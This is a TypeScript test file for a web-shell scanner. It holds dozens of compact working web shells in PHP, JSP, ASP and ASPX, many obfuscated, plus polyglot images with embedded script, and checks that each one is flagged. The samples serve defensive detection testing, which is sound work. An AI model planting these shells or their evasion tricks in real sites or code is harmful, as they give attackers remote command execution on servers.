/**
 * Hand-written shells of each class must be flagged (risk high or medium). These are small
 * generic shapes, not copies of corpus samples.
 */
import { describe, expect, it } from 'vitest';
import { isFlaggedRisk } from '@rampart/contracts';
import { scanOne } from './support.ts';

const b64 = (text: string): string => Buffer.from(text).toString('base64');

const shells: Record<string, [name: string, content: string]> = {
  'one-liner eval of POST': ['a.php', '<?php @eval($_POST["pass"]); ?>'],
  'assert of REQUEST': ['b.php', '<?php assert($_REQUEST["x"]);'],
  'input through variables and a function into system': ['c.php', `<?php
function run($what) { $line = "cd /tmp; " . $what; return system($line); }
$cmd = trim($_GET['c']);
$copy = $cmd;
run($copy);`],
  'backticks with a cookie': ['d.php', '<?php $c = $_COOKIE["k"]; echo `$c`;'],
  'decode chain into eval': ['e.php', `<?php eval(gzinflate(base64_decode('${Buffer.from('x').toString('base64')}')));`],
  'string-built name called with input': ['f.php', `<?php $f = 'sy' . 'st' . 'em'; $f($_POST['c']);`],
  'name decoded from base64 called': ['g.php', `<?php $n = base64_decode('${b64('assert')}'); $n($_POST['z']);`],
  'chr-built name': ['h.php', '<?php $k = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $k($_GET[0]);'],
  'strrev name': ['i.php', `<?php $x = strrev('tressa'); $x(@$_REQUEST['q']);`],
  'variable function from input': ['j.php', '<?php $_GET["f"]($_GET["a"]);'],
  'array_map callback': ['k.php', `<?php array_map('assert', array($_POST['x']));`],
  'call_user_func with input callback': ['l.php', '<?php $cb = $_REQUEST["cb"]; call_user_func($cb, $_REQUEST["arg"]);'],
  'usort callback from input': ['m.php', '<?php $a = array($_GET[1], 1); usort($a, $_GET[2]);'],
  'preg_replace /e': ['n.php', `<?php preg_replace('/.*/e', $_POST['code'], '');`],
  'include of input': ['o.php', '<?php include $_GET["page"];'],
  'php://input to eval': ['p.php', `<?php $body = file_get_contents('php://input'); eval($body);`],
  'header input to exec': ['q.php', `<?php $h = getallheaders(); passthru($h['X-Run']);`],
  'create_function with input': ['r.php', `<?php $f = create_function('', $_POST['b']); $f();`],
  'writes input into a php file': ['s.php', `<?php file_put_contents('x.php', $_POST['data']);`],
  'upload with no extension check': ['t.php', `<?php if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']); echo 'ok'; } ?><form method=post enctype=multipart/form-data><input type=file name=f></form>`],
  'packed payload': ['u.php', `<?php $p = '${b64('echo 1; '.repeat(300))}'; $d = base64_decode($p); eval($d);`],
  'shell in a .txt file': ['v.txt', '<?php system($_GET["c"]); ?>'],
  'variable variables chain': ['w.php', `<?php $a = 'b'.'ase'.'64_'.'decode'; $b = $a('${b64('system')}'); $b($_POST['c']);`],
  // Constant evaluation: names spelled by string XOR, substr_replace, md5 slices, bare words, parameters, arrays.
  'name from string XOR': ['x1.php', `<?php $f = ('!'^'@') . 'ss' . 'ert'; $f($_POST['x']);`],
  'name from substr_replace': ['x2.php', `<?php $f = substr_replace('sysxxx', 'tem', 3); $f($_GET['c']);`],
  'bare word passed to a helper that calls it': ['x3.php', `<?php function run($f) { $f($_POST['x']); } run(assert);`],
  'name stored in an array and called out of it': ['x4.php', `<?php $o['k'] = 'assert'; $list[] = $o; $list[0]['k']($_REQUEST['p']);`],
  'superglobal named by a built string': ['x5.php', `<?php $n = '_' . 'PO' . 'ST'; $in = $$n; eval($in['z']);`],
  'superglobal named by XOR, called': ['x6.php', '<?php $_ = "`{{{" ^ "?<>/"; ${$_}["a"](${$_}["b"]);'],
  'constant code spelled in pieces, evaluated': ['x7.php', `<?php $c = 'ev' . 'al($_PO' . 'ST[k]);'; eval($c);`],
  'reflection of an input name': ['x8.php', '<?php $r = new ReflectionFunction($_GET["f"]); $r->invoke($_GET["a"]);'],
  'u* comparison with a code callback': ['x9.php', `<?php array_udiff_assoc(array($_POST['c']), array(1), 'assert');`],
  'name spelled from an alphabet string by offsets': ['x10.php', `<?php $ab = 'abcdefghijklmnopqrstuvwxyz'; $f = $ab[0] . $ab{18} . $ab[18] . $ab[4] . $ab[17] . $ab[19]; $f($_POST['k']);`],
  'name appended piece by piece': ['x11.php', `<?php $f = 'cre'; $f .= 'ate_'; $f .= 'function'; $g = $f('$a', 'ev' . 'al($a);'); $g($_POST['c']);`],
  'register_globals emulation, then a plain variable evaluated': ['x12.php', `<?php foreach (array('_POST', '_GET') as $src) { foreach ($$src as $k => $v) { $$k = $v; } } eval($code);`],
  // Taint through state: properties, static properties, $GLOBALS, helper returns.
  'input kept in $this->prop, run in another method': ['y1.php', `<?php class T { private $cmd; function __construct() { $this->cmd = $_POST['c']; } function go() { system($this->cmd); } } (new T)->go();`],
  'input in a static property': ['y2.php', `<?php class K { static $code; } K::$code = $_GET['x']; eval(K::$code);`],
  'input through $GLOBALS into a function': ['y3.php', `<?php $GLOBALS['payload'] = $_COOKIE['p']; function f() { global $payload; assert($payload); } f();`],
  'input through a helper return': ['y4.php', `<?php function arg($k) { return $_REQUEST[$k]; } function sh($c) { return shell_exec($c); } echo sh(arg('c'));`],
  'JSP runtime exec': ['a.jsp', `<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>`],
  'JSP ProcessBuilder': ['b.jsp', `<% String c = request.getParameter("c"); new ProcessBuilder("sh", "-c", c).start(); %>`],
  'JSP defineClass of decoded bytes': ['c.jsp', `<%@page import="java.util.*,javax.crypto.*"%><%! class U extends ClassLoader { U(ClassLoader c){super(c);} public Class g(byte[] b){return super.defineClass(b,0,b.length);} } %><% byte[] b = new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()); new U(this.getClass().getClassLoader()).g(b).newInstance(); %>`],
  'JSP unicode-escaped Runtime': ['d.jsp', '<% \\u0052untime.getRuntime().exec(request.getParameter("x")); %>'],
  'JSP script engine': ['e.jsp', `<% new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("s")); %>`],
  'JSP reflection chain': ['f.jsp', `<% Class c = Class.forName(request.getParameter("c")); c.getMethod(request.getParameter("m"), String.class).invoke(null, request.getParameter("a")); %>`],
  'ASP eval request': ['a.asp', '<%eval request("pass")%>'],
  'ASP execute via variable': ['b.asp', '<% Dim code\ncode = Request.Form("z")\nExecute(code) %>'],
  'ASP WScript.Shell': ['c.asp', `<% Set s = Server.CreateObject("WScript.Shell") : Set e = s.Exec("cmd /c " & Request("c")) : Response.Write(e.StdOut.ReadAll) %>`],
  'ASPX JScript eval unsafe': ['d.aspx', '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>'],
  'ASPX Process.Start': ['e.aspx', `<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]); System.Diagnostics.Process.Start(p); }</script>`],
  'ASPX Assembly.Load of request bytes': ['f.aspx', `<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["k"])).CreateInstance("U").Equals(this); %>`],
  // JSP: uploaders, reflective exec, encrypted-channel loaders without a direct defineClass call.
  'JSP writes request content to a request-named file': ['g.jsp', `<% String p = request.getParameter("p"); java.io.File f = new java.io.File(application.getRealPath("/") + p); java.io.FileOutputStream o = new java.io.FileOutputStream(f); o.write(request.getParameter("d").getBytes()); o.close(); %>`],
  'JSP exec by java.beans.Expression': ['h.jsp', `<% String c = request.getParameter("c"); Process p = (Process) new java.beans.Expression(Runtime.getRuntime(), "exec", new Object[]{c}).getValue(); %>`],
  'JSP AES-decrypted class, defineClass by reflection, session-kept payload': ['i.jsp', `<%@page import="javax.crypto.*,javax.crypto.spec.*"%><% if (session.getAttribute("u") == null) { Cipher c = Cipher.getInstance("AES"); c.init(2, new SecretKeySpec("0123456789abcdef".getBytes(), "AES")); byte[] b = c.doFinal(java.util.Base64.getDecoder().decode(request.getReader().readLine())); java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class); m.setAccessible(true); session.setAttribute("u", m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length)); } ((Class) session.getAttribute("u")).newInstance().equals(pageContext); %>`],
  // ASP / ASPX: taint through variables, eval aliases, escapes, Chr-built code, reflective Assembly.Load, WebForms input.
  'ASP eval through two variables': ['c2.asp', '<% dim a, b\na = request("p")\nb = a\neval b %>'],
  'ASP Execute of Chr-built code': ['c3.asp', '<% Execute(Chr(101) & Chr(118) & Chr(97) & Chr(108) & "(request(""k""))") %>'],
  'JScript eval kept in an object': ['c4.asp', `<script runat=server language=javascript>var input = String(Request.Form('z')); var t = {'run': eval}; t.run(input);</script>`],
  'ASPX JScript eval with an escaped "unsafe"': ['g.aspx', '<%@ Page Language="JScript"%><% var k = Request["\\x6b"]; eval(k, "\\x75ns" + "afe"); %>'],
  'ASPX AES-decrypted assembly loaded by reflection, kept in Session': ['h.aspx', `<%@ Page Language="C#"%><% byte[] d = Convert.FromBase64String(Context.Request["p"]); d = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(d, 0, d.Length); if (Session["p"] == null) Session["p"] = typeof(System.Reflection.Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); %>`],
  'ASPX VB process from a text box': ['i.aspx', `<%@ Page Language="VB" %><script runat="server">Sub Run(s As Object, e As EventArgs)\nDim p As New Process()\np.StartInfo.FileName = "cmd.exe"\np.StartInfo.Arguments = "/c " & cmd.Text\np.Start()\nEnd Sub</script><form runat="server"><asp:TextBox id="cmd" runat="server"/><asp:Button OnClick="Run" runat="server"/></form>`],
};

describe('flags hand-written shells', () => {
  for (const [title, [name, content]] of Object.entries(shells)) {
    it(title, async () => {
      const result = await scanOne(name, content);
      expect(result.status).toBe('scanned');
      expect(isFlaggedRisk(result.risk), JSON.stringify(result.findings)).toBe(true);
      expect(result.findings[0]?.risk).toBe(result.risk);
      expect(result.findings[0]?.evidence.length).toBeLessThanOrEqual(160);
    });
  }

  it('flags a GIF with PHP inside (polyglot image)', async () => {
    const gif = Buffer.concat([Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00', 'latin1'), Buffer.alloc(64, 0x20), Buffer.from('<?php system($_GET["c"]); ?>')]);
    const result = await scanOne('avatar.gif', gif);
    expect(result.language).toBe('polyglot');
    expect(result.risk).toBe('high');
    expect(result.findings.some((f) => f.reason === 'polyglot_image')).toBe(true);
  });

  it('reads a short echo tag (`<%=`, `<?=`) in an image as script only with code and its closing tag after it (compressed data holds the three bytes by chance)', async () => {
    const jpeg = (inside: Buffer) => Buffer.concat([Buffer.from('ffd8ffe000104a464946000101', 'hex'), Buffer.alloc(4096, 0x80), inside, Buffer.alloc(4096, 0x91), Buffer.from('ffd9', 'hex')]);
    const chance = await scanOne('photo.jpg', jpeg(Buffer.from([0x3c, 0x25, 0x3d, 0x07, 0xee, 0x3c, 0x25, 0x3d, 0x61, 0x9c, 0x3c, 0x3f, 0x3d, 0x20, 0x24, 0x8e])));
    expect(chance.language).toBe('other');
    expect(chance.risk).toBe('none');
    const asp = await scanOne('photo.jpg', jpeg(Buffer.from('<%=eval(request("x"))%>')));
    expect(asp.language).toBe('polyglot');
    expect(isFlaggedRisk(asp.risk)).toBe(true);
    const php = await scanOne('photo.jpg', jpeg(Buffer.from('<?=`$_GET[0]`?>')));
    expect(php.language).toBe('polyglot');
    expect(isFlaggedRisk(php.risk)).toBe(true);
  });

  it('gives byte offsets that point at the evidence', async () => {
    const content = '<?php\n// a comment with ümlauts first\n$c = $_GET["c"];\nsystem($c);\n';
    const result = await scanOne('off.php', content);
    const finding = result.findings.find((f) => f.reason === 'input_to_command');
    expect(finding).toBeDefined();
    const bytes = Buffer.from(content);
    expect(bytes.subarray(finding!.offset, finding!.offset + finding!.length).toString()).toMatch(/^system\(\$c\);?$/);
  });
});
